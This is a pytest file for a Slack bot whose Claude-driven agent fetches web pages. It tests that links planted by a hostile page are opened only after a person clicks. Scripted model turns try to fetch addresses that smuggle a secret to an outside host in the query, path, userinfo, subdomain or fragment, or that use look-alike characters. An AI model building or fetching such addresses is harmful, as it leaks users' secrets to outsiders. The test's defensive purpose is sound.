"""A link that nobody here wrote is opened by a person's click alone: whole before their eyes, once, and written down."""

import asyncio
import json
from collections.abc import AsyncIterator, Sequence
from dataclasses import replace
from pathlib import Path

import pytest

from bot.demo.claude.reply import Draft, Use
from bot.demo.pages.made import Page
from bot.demo.slack import Message
from bot.demo.slack.blocks import actions
from bot.demo.terminal import under, words_of
from bot.slack.offers import LAPSED, NO_SUCH, NO_TOOLS, NOT_YOURS, STALE
from bot.slack.proposed import CHANGE, DO
from bot.slack.unread import LAPSED as UNREAD
from bot.slack.unread import READ
from tests.stories.hostile import TRAP, Hostile

DAY = 86_400.0
SECRET = "the-blue-safe"  # what Claude was told, and would carry out


class Desk(Hostile):
    """A page that links elsewhere, and what became of its links."""

    async def left(self, *urls: str, links: Sequence[str], who: str = "ana") -> list[Message]:
        """Somebody asks about the page, Claude wants these addresses; what stands under the answer."""
        self.trapped.words = "".join(f"<p>More stands at {one} .</p>" for one in links)
        page = self.web.address(TRAP)
        self.script(
            Draft("I'll look.", uses=(Use("web_fetch", {"url": page}),)),
            Draft("And behind it.", uses=tuple(Use("web_fetch", {"url": one}) for one in urls)),
            Draft("I read the page, and not where it leads."),
        )
        root = await self.slack.say(who, "#shop-dev", f"@purser what does {page} say?")
        await self.ended(root)
        return self.said(root)[1:]

    async def press(self, who: str, message: Message, value: str | None = None) -> None:
        """Press *Read it*, and wait until all that follows has its end."""
        await self.slack.click(who, message, READ, value=value)
        await self.idle()

    def told(self, who: str) -> list[str]:
        """What was said to one person alone."""
        user = self.slack.world.person(who).id
        channel = self.slack.world.channel("#shop-dev")
        return [words_of(m) for m in channel.ephemerals if m.only_for == user]

    def audited(self, action: str) -> list[tuple[str, str, str]]:
        """Of the audit: what it was about, how it ended, and by which rule."""
        rows = self.rows("SELECT * FROM audit WHERE action = ? ORDER BY day, n", action)
        return [(row["subject"], row["outcome"], row["rule"]) for row in rows]

    @property
    def visits(self) -> int:
        """How often the stranger's page was opened."""
        return len(self.web.visits(Page.ARTICLE))


@pytest.fixture
async def desk(tmp_path: Path) -> AsyncIterator[Desk]:
    """A world with the bot in it."""
    async with Desk(tmp_path) as made:
        await made.start()
        yield made


def shown(message: Message) -> list[tuple[str, bool]]:
    """The address as it stands there: its parts, and which are bold."""
    (rich,) = [block for block in message.blocks if block["type"] == "rich_text"]
    parts = rich["elements"][0]["elements"]
    assert {part["type"] for part in parts} == {"text"}  # none is a link
    return [(part["text"], "style" in part) for part in parts]


async def test_a_click_opens_what_was_shown(desk: Desk) -> None:
    """Nothing is opened before it; then who asked is answered in the same thread, and the place says by whom."""
    url = f"{desk.elsewhere}{Page.ARTICLE}?from=trap"
    (message,) = await desk.left(url, links=[url])

    host = desk.elsewhere.partition("://")[2]
    assert shown(message) == [
        ("http://", False),
        (host, True),
        (f"{Page.ARTICLE}?from=trap", False),
    ]
    assert desk.elsewhere not in words_of(message)
    assert not message.unfurls
    assert desk.visits == 0
    desk.script(
        Draft("Now I may.", uses=(Use("web_fetch", {"url": url}),)), Draft("It is on idempotency.")
    )
    await desk.press("ana", message)

    assert desk.visits == 1
    assert actions(message.blocks) == {}
    assert "Ana Duarte let it be read" in under(message)[0]
    answer = desk.said(message)[-1]
    assert words_of(answer) == "It is on idempotency."
    assert answer.thread_ts == message.thread_ts
    given = json.dumps(desk.asked[-1].body["messages"])
    assert "I read the page, and not where it leads." in given  # it goes on
    assert desk.audited("press") == [(READ, "answer", "")]
    assert desk.audited("proposal") == [(host, "allowed", "")]
    assert [row["feature"] for row in desk.asks()] == ["chat", "click", "chat"]


async def test_what_claude_put_together_gets_no_button(desk: Desk) -> None:
    """Data behind, before or within an address that stands there makes it another one: refused, and no person is asked."""
    link = f"{desk.elsewhere}/in?q="
    host = desk.elsewhere.partition("://")[2]
    composed = (
        f"{link}{SECRET}",
        f"{desk.elsewhere}/{SECRET}",
        f"http://{SECRET}@{host}/in?q=",
        f"http://{SECRET}.{host}/in?q=",
        f"{desk.elsewhere}/IN?q=",
        f"{link}#{SECRET}",
    )
    messages = await desk.left(*composed, links=[link])

    assert messages == []
    assert desk.rows("SELECT * FROM proposals") == []
    results = [b for b in desk.asked[-1].body["messages"][-1]["content"] if b.get("is_error")]
    assert len(results) == len(composed)
    assert all("Addresses that you put together" in json.dumps(block) for block in results)
    assert len(desk.web.log) == 1


async def test_what_looks_like_another_host_gets_no_button(desk: Desk) -> None:
    """An address with a sign that can pass for another one, or too long to be seen whole, is left to no person."""
    host = desk.elsewhere.partition("://")[2]
    odd = (
        f"http://ex\u0430mple.com/{Page.ARTICLE}",
        f"{desk.elsewhere}/\u2044in",
        f"http://{host}/{'a' * 2_000}",
    )

    assert await desk.left(*odd, links=odd) == []
    assert desk.rows("SELECT * FROM proposals") == []
    assert desk.visits == 0


async def test_what_a_tool_repeats_is_not_read(desk: Desk) -> None:
    """An address that Claude wrote into a proposal, and that its result gives back, is none that stands anywhere."""
    url = f"{desk.elsewhere}/in?q={SECRET}"
    comment = Use("jira_propose_comment", {"key": "SHOP-12", "markdown": f"see {url}"})
    desk.script(
        Draft("A comment.", uses=(comment,)),
        Draft("And its link.", uses=(Use("web_fetch", {"url": url}),)),
        Draft("It lies ready."),
    )
    root = await desk.slack.say("ana", "#shop-dev", "@purser comment on SHOP-12 that all is well")
    await desk.ended(root)

    assert [row["tool"] for row in desk.rows("SELECT tool FROM proposals")] == [comment.name]
    assert desk.web.log == []


async def test_three_at_most_each_once(desk: Desk) -> None:
    """Of five links three are shown, each once; Claude hears of the others."""
    links = [f"{desk.elsewhere}/page-{n}" for n in range(5)]
    messages = await desk.left(*links, links[0], links=links)

    assert [shown(message)[-1][0] for message in messages] == ["/page-0", "/page-1", "/page-2"]
    assert "at most 3 addresses" in json.dumps(desk.asked[-1].body["messages"][-1])


async def test_a_click_counts_once_and_of_the_right_person(desk: Desk) -> None:
    """Others, forged values and second presses open nothing, are told why, and stand in the audit; an admin may."""
    url = f"{desk.elsewhere}{Page.ARTICLE}"
    (message,) = await desk.left(url, links=[url])
    value = actions(message.blocks)[READ][0]["value"]
    await desk.press("ben", message)
    await desk.press("ana", message, f"{value.partition(':')[0]}:{'0' * 32}")
    await desk.press("ana", message, "p0:0")

    assert desk.told("ben") == [NOT_YOURS]
    assert desk.told("ana") == [STALE, NO_SUCH]
    assert desk.visits == 0
    desk.script(Draft("Now.", uses=(Use("web_fetch", {"url": url}),)), Draft("Done."))
    await asyncio.gather(
        desk.slack.click("ruth", message, READ), desk.slack.click("ana", message, READ)
    )
    await desk.idle()

    assert desk.visits == 1
    assert "It was let be read already, by" in "".join([*desk.told("ana"), *desk.told("ruth")])
    rules = [rule for subject, _, rule in desk.audited("press") if subject == READ]
    assert rules[:3] == ["not_yours", "stale", "no_such"]
    assert sorted(rules[3:]) == ["", "decided"]


async def test_each_button_is_for_its_own_kind(desk: Desk) -> None:
    """What would be written is not read by the value of another button, and an address neither written nor changed."""
    url = f"{desk.elsewhere}{Page.ARTICLE}"
    (message,) = await desk.left(url, links=[url])
    comment = Use("jira_propose_comment", {"key": "SHOP-12", "markdown": "All is well."})
    desk.script(Draft("A comment.", uses=(comment,)), Draft("It lies ready."))
    root = await desk.slack.say("ana", "#shop-dev", "@purser comment on SHOP-12 that all is well")
    await desk.ended(root)
    other = desk.said(root)[-1]
    await desk.press("ana", message, actions(other.blocks)[DO][0]["value"])
    for action in (DO, CHANGE):
        await desk.slack.click(
            "ana", other, action, value=actions(message.blocks)[READ][0]["value"]
        )
        await desk.idle()

    assert desk.told("ana") == [NO_SUCH] * 3
    assert desk.slack.views.open == {}
    assert {row["state"] for row in desk.rows("SELECT state FROM proposals")} == {"open"}


async def test_who_may_have_nothing_read_lets_nothing_be_read(tmp_path: Path) -> None:
    """Who became a guest since, whom the policy gives no tools, opens no link and writes nothing, and is told so."""
    async with Desk(tmp_path) as desk:
        await desk.start()
        url = f"{desk.elsewhere}{Page.ARTICLE}"
        (message,) = await desk.left(url, links=[url])
        comment = Use("jira_propose_comment", {"key": "SHOP-12", "markdown": "All is well."})
        desk.script(Draft("A comment.", uses=(comment,)), Draft("It lies ready."))
        root = await desk.slack.say("ana", "#shop-dev", "@purser comment on SHOP-12")
        await desk.ended(root)
        await desk.stop()
        file = tmp_path / "purser.toml"
        file.write_text(f'{file.read_text()}\nguests = "no-tools"\n')
        ana = desk.slack.world.person("ana")
        desk.slack.world.people[ana.id] = replace(ana, is_restricted=True)
        await desk.start()
        await desk.press("ana", message)
        await desk.slack.click("ana", desk.said(root)[-1], DO)
        await desk.idle()

        assert desk.told("ana") == [NO_TOOLS.sentence] * 2
        assert desk.visits == 0
        assert {row["state"] for row in desk.rows("SELECT state FROM proposals")} == {"open"}
        assert desk.audited("press") == [
            (READ, "stopped", "no_tools"),
            (DO, "stopped", "no_tools"),
        ]


async def test_a_late_click_opens_nothing(desk: Desk) -> None:
    """A day later the button goes, and who pressed is told."""
    url = f"{desk.elsewhere}{Page.ARTICLE}"
    (message,) = await desk.left(url, links=[url])
    desk.ahead = DAY + 60
    await desk.press("ana", message)

    assert desk.visits == 0
    assert (under(message), actions(message.blocks)) == ([UNREAD], {})
    assert desk.told("ana") == [LAPSED]


async def test_where_an_admin_named_the_hosts_no_person_opens_others(tmp_path: Path) -> None:
    """Under `web_allowed_hosts` a link to another host gets no button."""
    async with Desk(tmp_path, policy='web_allowed_hosts = ["docs.example"]') as desk:
        await desk.start()
        url = "https://collect.example/a"
        assert await desk.left(url, links=[url]) == []
